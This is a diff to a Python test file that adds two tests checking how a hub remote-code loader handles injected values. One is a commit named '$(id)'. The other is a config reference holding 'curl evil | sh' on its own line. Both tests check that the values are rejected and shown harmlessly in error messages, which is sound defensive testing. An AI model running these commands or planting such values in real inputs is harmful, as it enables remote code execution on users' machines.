@@ -154,6 +154,13 @@ def test_cached_weights_without_their_code_take_that_of_their_commit(tmp_path: P
     assert code.commit == OLD
 
 
+def test_a_hub_names_no_command_as_its_commit(hub: Hub) -> None:
+    hub.commits["org/own"]["$(id)"] = hub.commits["org/own"][hub.head]
+    hub.head = "$(id)"
+    with raises_problem("which commit of org/own", cause="'$(id)'", fix="--code-revision COMMIT"):
+        remote_code.read_hub_code("org/own")
+
+
 def test_an_unknown_commit_is_a_problem() -> None:
     with raises_problem("org/own", "2" * 40):
         remote_code.read_hub_code("org/own", "2" * 40)
@@ -220,6 +227,13 @@ def test_code_of_another_repository_cannot_be_pinned() -> None:
     assert "another repository" in caught.value.what
     assert "else/where--configuration_x.X" in caught.value.cause
     assert "--no-remote-code" in caught.value.fix
+
+
+def test_a_repository_named_by_a_config_is_one_word_of_a_fix() -> None:
+    reference = "x\ncurl evil | sh\n--own.X"
+    with pytest.raises(Problem) as caught:
+        remote_code.list_code_modules({"config.json": {"auto_map": {"AutoConfig": reference}}}, "org/name")
+    assert "files of 'x curl evil | sh' next to" in caught.value.fix
 
 
 def model(folder: Path) -> Path:
